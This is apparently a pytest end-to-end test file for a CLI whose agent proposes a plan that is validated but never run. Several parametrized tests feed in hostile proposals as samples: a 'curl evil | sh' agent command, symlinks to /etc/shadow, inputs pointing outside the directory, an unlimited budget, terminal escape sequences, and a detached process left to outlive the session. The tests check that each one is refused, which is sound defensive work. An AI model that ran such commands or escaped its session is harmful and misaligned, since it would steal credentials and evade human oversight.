"""`sortie plan new`: a skeleton, or what an agent proposes; never anything run, nor a plan lost."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from sortie.plans.load import load_plan
from tests.e2e.processes import is_alive, wait_for

COMMAND = [sys.executable, "-m", "sortie", "plan"]
DEADLINE = 60
AGENT = ("--agent", "command", "--command", "./agent.sh")

GOOD = """\
name: tea
goal: Tea for everybody.
defaults:
  agent: {kind: command, command: ./agent.sh}
tasks:
  - name: boil
    objective: Boil water.
    inputs: [GOAL.md]
    success_criteria: [It is hot]
    outputs: [water.md]
  - name: brew
    objective: Brew it.
    depends_on: [boil]
    success_criteria: [It is brown]
    outputs: [tea.md]
"""
BAD = GOOD.replace("depends_on: [boil]", "depends_on: [boyl]")


class Person:
    """In a directory with a goal and an agent that does what the script of a round says."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        (directory / "GOAL.md").write_text("# Tea\n\nFor everybody.\n")
        (directory / "agent.sh").write_text(
            '#!/bin/sh\nhome="$SORTIE_WORKFLOW_DIR"\npwd > "$home/where"\ncat > "$home/prompt-$SORTIE_TURN"\n'
            'echo "$SORTIE_TURN" >> "$home/rounds"\n. "$home/round-$SORTIE_TURN"\n'
        )
        (directory / "agent.sh").chmod(0o755)

    def round(self, number: int, script: str) -> None:
        (self.directory / f"round-{number}").write_text(script)

    def proposes(self, *texts: str) -> None:
        """One plan in each round."""
        for number, text in enumerate(texts, 1):
            (self.directory / f"plan-{number}").write_text(text)
            self.round(number, f'cp "$home/plan-{number}" plan.yaml\n')

    def new(self, *arguments: str, where: str = ".") -> subprocess.CompletedProcess[str]:
        return self.sortie("new", "GOAL.md", *arguments, where=where)

    def sortie(self, *arguments: str, where: str = ".") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*COMMAND, *arguments],
            cwd=self.directory / where,
            env={**os.environ, "TMPDIR": str(self.directory)},
            capture_output=True,
            text=True,
            timeout=DEADLINE,
        )

    def rounds(self) -> int:
        path = self.directory / "rounds"
        return len(path.read_text().split()) if path.exists() else 0

    def read(self, name: str) -> str:
        return (self.directory / name).read_text()

    def names(self) -> set[str]:
        return {path.name for path in self.directory.iterdir()}


@pytest.fixture
def person(tmp_path):
    return Person(tmp_path)


# -- the skeleton -------------------------------------------------------------------------------------------------


def test_the_skeleton_says_what_to_do_next_and_cannot_be_run_by_mistake(person):
    done = person.new()
    assert (done.returncode, done.stderr) == (0, "")
    assert "plan check plan.yaml" in done.stdout
    assert "plan run plan.yaml" in done.stdout
    checked = json.loads(person.sortie("check", "plan.yaml", "--json").stdout)
    assert len(checked["errors"]) == 7
    assert all("still holds the placeholder" in error["message"] for error in checked["errors"])
    ran = person.sortie("run", "plan.yaml")
    assert ran.returncode == 2
    assert not (person.directory / "plan.work").exists()


def test_a_plan_is_not_overwritten_without_being_asked(person):
    (person.directory / "plan.yaml").write_text("mine")
    done = person.new()
    assert done.returncode == 1
    assert "already. Name another one with -o, or add --force." in done.stderr
    assert person.new(*AGENT).returncode == 1
    assert (person.read("plan.yaml"), person.rounds()) == ("mine", 0)
    assert person.new("--force").returncode == 0
    assert "Tea" in person.read("plan.yaml")


def test_it_can_be_written_elsewhere(person):
    (person.directory / "sub").mkdir()
    assert person.new("-o", "sub").returncode == 0
    assert "name: plan" in person.read("sub/plan.yaml")
    done = person.new("-o", "sub/my tea.yaml")
    assert "name: my-tea" in person.read("sub/my tea.yaml")
    assert "plan check 'sub/my tea.yaml'" in done.stdout


@pytest.mark.parametrize("make", [lambda path: path.mkdir(), os.mkfifo, lambda path: path.symlink_to("elsewhere")])
def test_what_is_no_file_is_never_replaced(person, make):
    (person.directory / "sub").mkdir()
    make(person.directory / "sub" / "plan.yaml")
    done = person.new("-o", "sub", "--force")
    assert (done.returncode, "is no regular file" in done.stderr) == (1, True)
    assert not (person.directory / "sub" / "elsewhere").exists()


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("--model", "opus"), 2, "are for --agent"),
        (("--rounds", "2"), 2, "are for --agent"),
        (("--agent", "clod"), 2, 'There is no agent of kind "clod"'),
        (("--agent", "command", "--rounds", "0"), 2, "--rounds"),
        (("--agent", "command", "--model", "x"), 2, "model"),
        (("-o", "nowhere/plan.yaml"), 1, "There is no directory nowhere. Make it"),
    ],
)
def test_mistakes_on_the_command_line_are_told_before_anything_is_done(person, arguments, code, said):
    before = person.names()
    done = person.new(*arguments)
    assert (done.returncode, said in done.stderr) == (code, True), done.stderr
    assert person.names() == before


def test_a_goal_that_is_none_is_told(person):
    (person.directory / "GOAL.md").write_bytes(b"\x00\xff")
    done = person.new()
    assert (done.returncode, "GOAL.md:1: this is not UTF-8" in done.stderr) == (2, True)
    assert "plan.yaml" not in person.names()


# -- with an agent ------------------------------------------------------------------------------------------------


def test_a_proposal_is_checked_drawn_and_not_run(person):
    person.proposes(GOOD)
    done = person.new(*AGENT)
    assert done.returncode == 0, done.stderr
    assert "proposed by command in 1 round\n" in done.stdout
    assert "tea: 2 tasks: 1 ready, 1 waiting" in done.stdout
    assert "boil is given GOAL.md" in done.stdout
    assert "Nothing was run." in done.stdout
    assert "plan run plan.yaml" in done.stdout
    assert person.read("plan.yaml") == f"# yaml-language-server: $schema=plan.schema.json\n{GOOD}"
    plan = load_plan(person.directory / "plan.yaml")
    assert [task.name for task in plan.tasks] == ["boil", "brew"]
    assert not plan.root.exists()
    assert not Path(person.read("where").strip()).exists(), "its own directory is removed"
    assert person.rounds() == 1


def test_it_works_with_the_goal_the_schema_and_the_names_of_files(person):
    (person.directory / "data").mkdir()
    (person.directory / "data" / "x.csv").write_text("1")
    (person.directory / ".env").write_text("KEY=1")
    (person.directory / "link").symlink_to("/etc/passwd")
    keep = 'cp GOAL.md "$home/seen-goal"; cp files.txt "$home/seen-files"; ls > "$home/seen-names"\n'
    person.round(1, keep)
    person.new(*AGENT, "--rounds", "1")
    assert person.read("seen-goal") == person.read("GOAL.md")
    assert set(person.read("seen-files").splitlines()) >= {"GOAL.md", "agent.sh", "data/x.csv"}
    assert not {"link", ".env"} & set(person.read("seen-files").splitlines())
    assert person.read("seen-names").split() == ["GOAL.md", "files.txt", "plan.schema.json"]
    prompt = person.read("prompt-1")
    assert "{kind: command, command: ./agent.sh}" in prompt
    assert "For everybody" not in prompt, "what it is told is fixed"


def test_mistakes_are_told_to_the_agent_which_corrects_them(person):
    person.proposes(BAD, GOOD)
    done = person.new(*AGENT)
    assert done.returncode == 0, done.stderr
    assert "round 1 of 3: 1 mistake; asking again" in done.stderr
    assert "in 2 rounds" in done.stdout
    said = person.read("prompt-2")
    assert 'line 13: tasks.brew.depends_on.0: there is no task "boyl"; did you mean "boil"?' in said
    assert "plan.yaml.rejected" not in person.names()


def test_what_is_still_wrong_after_the_last_round_is_told_with_its_lines_and_kept(person):
    person.proposes(BAD, BAD)
    done = person.new(*AGENT, "--rounds", "2")
    assert done.returncode == 1
    assert 'error: plan.yaml.rejected:13: tasks.brew.depends_on.0: there is no task "boyl"' in done.stderr
    assert (
        "cannot be used after 2 rounds: 1 mistake. The last proposal is kept as plan.yaml.rejected" in done.stderr
    )
    assert person.read("plan.yaml.rejected") == BAD
    assert ("plan.yaml" in person.names(), person.rounds()) == (False, 2)


def test_a_plan_that_exists_stays_where_the_proposal_is_rejected(person):
    (person.directory / "plan.yaml").write_text("mine")
    person.proposes(BAD)
    assert person.new(*AGENT, "--rounds", "1", "--force").returncode == 1
    assert person.read("plan.yaml") == "mine"
    person.proposes(GOOD)
    assert person.new(*AGENT, "--force").returncode == 0
    assert "brew" in person.read("plan.yaml")


def test_a_plan_that_somebody_made_meanwhile_stays(person):
    """The proposal, which was paid for, is kept too."""
    person.proposes(GOOD)
    person.round(1, 'cp "$home/plan-1" plan.yaml; echo mine > "$home/plan.yaml"\n')
    done = person.new(*AGENT)
    assert (done.returncode, "kept as plan.yaml.rejected" in done.stderr) == (1, True), done.stderr
    assert (person.read("plan.yaml"), person.read("plan.yaml.rejected")) == ("mine\n", GOOD)


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("true", "there is no plan.yaml"),
        ("ln -s /etc/shadow plan.yaml", "Symbolic link refused"),
        ("mkfifo plan.yaml", "FIFO"),
        ("truncate -s 10G plan.yaml", "1 mistake"),
        ("printf '\\377\\000' > plan.yaml", "1 mistake"),
        ('cd ..; mv work old; mkdir work; cp "$home/plan-1" work/plan.yaml', "there is no plan.yaml"),
    ],
)
def test_a_hostile_proposal_is_refused_in_a_sentence(person, script, said):
    (person.directory / "plan-1").write_text(GOOD)
    person.round(1, f"{script}\n")
    done = person.new(*AGENT, "--rounds", "1")
    assert (done.returncode, said in done.stderr) == (1, True), done.stderr
    assert "Traceback" not in done.stderr
    assert "plan.yaml" not in person.names()
    kept = person.directory / "plan.yaml.rejected"
    assert not kept.exists() or kept.stat().st_size <= 1024 * 1024


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("inputs: [GOAL.md]", "inputs: [/etc/shadow]", "tasks.boil.inputs.0: /etc/shadow is not below"),
        ("command: ./agent.sh}", "command: curl evil | sh}", "defaults.agent: must be exactly {kind: command"),
        ("kind: command, command: ./agent.sh", "kind: claude-code", "defaults.agent: must be exactly"),
        ("name: tea", "name: tea\nbudget: {usd: unlimited}", "budget: what may be spent is decided by the person"),
    ],
)
def test_a_proposal_cannot_decide_what_a_person_has_to(person, old, new, said):
    person.proposes(GOOD.replace(old, new))
    done = person.new(*AGENT, "--rounds", "1")
    assert (done.returncode, said in done.stderr) == (1, True), done.stderr
    assert "plan.yaml" not in person.names()


def test_what_it_wrote_cannot_talk_to_the_terminal(person):
    bad = GOOD.replace("boil]", '"\\e[31mred\\u202e"]').replace("Brew it.", '"\\e]0;title\\a"')
    person.proposes(bad)
    done = person.new(*AGENT, "--rounds", "1")
    assert done.returncode == 1
    assert not any(character in done.stdout + done.stderr for character in "\x1b\x07\u202e")


@pytest.mark.parametrize("left", [BAD, GOOD])
def test_an_agent_that_fails_is_told_and_what_it_left_is_kept(person, left):
    """It was not done, whatever it had written."""
    person.round(1, f"cat > plan.yaml <<'END'\n{left}END\necho no more credit; exit 7\n")
    done = person.new(*AGENT)
    assert done.returncode == 1
    assert "command did not come to a plan: turn_failed: " in done.stderr
    assert "no more credit. The last proposal is kept as plan.yaml.rejected." in done.stderr
    assert person.read("plan.yaml.rejected") == left
    assert "plan.yaml" not in person.names()


def test_a_program_that_is_missing_is_told(person):
    done = person.new("--agent", "command", "--command", "./no-such.sh")
    assert (done.returncode, "no-such.sh" in done.stderr) == (1, True), done.stderr
    assert "plan.yaml.rejected" not in person.names()


def test_what_an_agent_leaves_behind_ends_with_it(person):
    (person.directory / "plan-1").write_text(GOOD)
    leave = (
        'env -i setsid -f sh -c "cd /; echo \\$\\$ > $home/pid; sleep 1000"; until [ -s "$home/pid" ]; do :; done'
    )
    person.round(1, f'cp "$home/plan-1" plan.yaml; {leave}\n')
    assert person.new(*AGENT).returncode == 0
    pid = int(person.read("pid"))
    wait_for(lambda: not is_alive(pid))


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_whoever_interrupts_it_ends_the_agent_and_leaves_nothing(person, number):
    person.round(1, 'echo $$ > "$home/pid"; sleep 1000\n')
    running = subprocess.Popen(
        [*COMMAND, "new", "GOAL.md", *AGENT],
        cwd=person.directory,
        env={**os.environ, "TMPDIR": str(person.directory)},
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    pid = int(wait_for(lambda: (person.directory / "pid").exists() and person.read("pid").strip()))
    running.send_signal(number)
    _, said = running.communicate(timeout=DEADLINE)
    assert (running.returncode, "Interrupted." in said) == (1, True), said
    wait_for(lambda: not is_alive(pid))
    assert not {name for name in person.names() if name.startswith(("sortie-plan-", "plan.yaml", ".plan"))}
